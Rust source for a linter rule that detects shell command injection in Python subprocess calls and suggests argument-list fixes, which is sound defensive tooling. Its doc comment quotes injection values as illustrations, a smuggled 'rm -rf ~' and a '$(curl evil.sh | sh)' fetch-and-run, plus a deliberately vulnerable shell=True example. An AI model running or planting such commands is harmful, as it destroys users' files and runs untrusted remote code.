use crate::checker::Checker;
use crate::declare_rule;
use crate::diagnostic::{Confidence, Edit, Finding, Fix, Severity};
use crate::parse::ast::{self, Expr};
use crate::parse::Ranged;
use crate::registry::{FixAvailability, InTests, Owasp, Source};
use crate::rules::{Check, Rule};
use crate::semantic::{argument, keyword, QualifiedName};

use super::command_fix::{argument_words, list_literal, remove_argument};
use super::shell_command::{is_truthy, literal_elements, shell_exposure, Exposure};
use super::shell_script::{script_exposure, shell_script};

declare_rule! {
    /// ## What it does
    /// Flags `subprocess` calls (`run`, `call`, `check_call`, `check_output`, `Popen`) that
    /// hand a command built from run-time values to a shell: with `shell=True`, or by starting
    /// a shell themselves (`["bash", "-c", script]`, `["cmd", "/c", ...]`).
    ///
    /// A constant command is not flagged: nothing outside the program can change it. Neither
    /// is a value passed through `shlex.quote` outside quotes, or a number.
    ///
    /// ## Why is this bad?
    /// The shell reads the whole string as a script. A file name such as
    /// `x.png; rm -rf ~` or `$(curl evil.sh | sh)` inserted into it runs as commands with the
    /// program's rights. An argument list runs one program and passes each value as one
    /// argument, whatever characters it holds.
    ///
    /// ## Example
    /// ```python
    /// import subprocess
    ///
    /// def thumbnail(user_file):
    ///     subprocess.run(f"convert {user_file} -resize 64x64 thumb.png", shell=True)
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// import subprocess
    ///
    /// def thumbnail(user_file):
    ///     subprocess.run(["convert", user_file, "-resize", "64x64", "thumb.png"])
    /// ```
    ///
    /// ## Fix safety
    /// Unsafe. The fix splits the command into words the way a POSIX shell would and drops
    /// `shell=True`; a value that held several words (or shell syntax) is now one argument,
    /// which is the point. Values inserted with `{x}`, `%s` or `.format` become `str(x)` unless
    /// they are known to be strings. No fix is offered when the command uses what a list cannot
    /// express (pipes, redirects, `&&`, `;`, globs, `$VAR`, `~`, shell builtins such as `cd`),
    /// names its program with a value (`f"{editor} {path}"` relies on the shell splitting
    /// `$EDITOR`), or passes `executable=`. When the command comes from a variable, the suggested rewrite
    /// of its assignment is shown but not applied: other uses of the variable may expect a string.
    ///
    /// ## References
    /// CWE-78 · OWASP A03
    pub SUBPROCESS_SHELL_INJECTION = RuleMeta {
        id: "PV210",
        name: "subprocess-shell-injection",
        severity: Severity::High,
        confidence: Confidence::High,
        cwe: &[78],
        owasp: Owasp::A03,
        guideline: "command-injection",
        sources: &[Source::Bandit("B602"), Source::Ruff("S602")],
        fix: FixAvailability::Sometimes,
        in_tests: InTests::Report,
    }
}

pub static RULE: Rule = Rule {
    meta: &SUBPROCESS_SHELL_INJECTION,
    checks: &[Check::Callee(check_call)],
    needs: &["subprocess"],
};

fn check_call<'a>(checker: &Checker<'a>, call: &'a ast::ExprCall, function: &QualifiedName<'a>) {
    let ["subprocess", name @ ("run" | "call" | "check_call" | "check_output" | "Popen")] =
        function.segments()
    else {
        return;
    };
    let Some(args) = argument(call, 0, "args") else {
        return;
    };
    match keyword(call, "shell").filter(|shell| is_truthy(checker, &shell.value)) {
        Some(shell) => check_shell_true(checker, call, name, args, shell),
        None => check_explicit_shell(checker, call, name, args),
    }
}

/// `subprocess.run(command, shell=True)`.
fn check_shell_true<'a>(
    checker: &Checker<'a>,
    call: &'a ast::ExprCall,
    function: &str,
    args: &'a Expr,
    shell: &'a ast::Keyword,
) {
    // With `shell=True`, a list's first item is the script; the rest become `$0`, `$1`, ...
    let command = match literal_elements(checker, args).as_deref() {
        Some([]) => return,
        Some([first, ..]) => *first,
        None => args,
    };
    let Some(exposure) = shell_exposure(checker, command, true) else {
        return;
    };
    let message = format!(
        "`subprocess.{function}` with `shell=True` runs {} in a shell, so {}",
        exposure.describe(checker, "command"),
        exposure.consequence()
    );
    let fix = shell_true_fix(checker, call, args, command, shell);
    report(checker, call, message, &exposure, "command", fix);
}

fn shell_true_fix<'a>(
    checker: &Checker<'a>,
    call: &'a ast::ExprCall,
    args: &'a Expr,
    command: &'a Expr,
    shell: &ast::Keyword,
) -> Option<Fix> {
    let arguments = &call.arguments;
    if keyword(call, "executable").is_some()
        || arguments.keywords.iter().any(|k| k.arg.is_none())
        || arguments.args.iter().any(Expr::is_starred_expr)
    {
        return None;
    }
    let single_item = match args {
        Expr::List(list) => list.elts.len() == 1,
        Expr::Tuple(tuple) => tuple.elts.len() == 1,
        _ => std::ptr::eq(args, command),
    };
    if !single_item {
        return None;
    }
    let rewrite = argument_words(checker, command)?;
    let list = list_literal(&rewrite.words);
    let without_shell = remove_argument(checker, call, shell.range());
    match rewrite.variable {
        None => Some(Fix::unsafe_edits(
            "Pass the command as an argument list, without `shell=True`",
            vec![Edit::replace(args.range(), list), without_shell],
        )),
        Some(value) if std::ptr::eq(args, command) => Some(Fix::display_only(
            "Build the command as an argument list and drop `shell=True`",
            vec![Edit::replace(value, list), without_shell],
        )),
        Some(_) => None,
    }
}

/// `subprocess.run(["bash", "-c", script])`.
fn check_explicit_shell<'a>(
    checker: &Checker<'a>,
    call: &'a ast::ExprCall,
    function: &str,
    args: &'a Expr,
) {
    let Some(elements) = literal_elements(checker, args) else {
        return;
    };
    let [program, arguments @ ..] = &elements[..] else {
        return;
    };
    let Some(script) = shell_script(checker, program, arguments) else {
        return;
    };
    let Some(exposure) = script_exposure(checker, &script) else {
        return;
    };
    let message = format!(
        "`subprocess.{function}` starts `{}` with {}, so {}",
        script.invocation,
        exposure.describe(checker, "script"),
        exposure.consequence()
    );
    // `executable=` would still name the shell, with the program's words as its arguments.
    let rewritable = script.plain
        && script.posix
        && matches!(args, Expr::List(_) | Expr::Tuple(_))
        && keyword(call, "executable").is_none();
    let fix = script
        .script
        .first()
        .filter(|_| rewritable)
        .and_then(|script| argument_words(checker, script))
        .filter(|rewrite| rewrite.variable.is_none())
        .map(|rewrite| {
            Fix::unsafe_edits(
                format!(
                    "Run the program directly instead of through `{}`",
                    script.invocation
                ),
                vec![Edit::replace(args.range(), list_literal(&rewrite.words))],
            )
        });
    report(checker, call, message, &exposure, "script", fix);
}

fn report<'a>(
    checker: &Checker<'a>,
    call: &ast::ExprCall,
    message: String,
    exposure: &Exposure<'a>,
    noun: &str,
    fix: Option<Fix>,
) {
    checker.report(
        Finding::new(&SUBPROCESS_SHELL_INJECTION, call.range(), message)
            .with_confidence(exposure.confidence())
            .with_trace(exposure.trace(checker, noun))
            .with_fix(fix),
    );
}
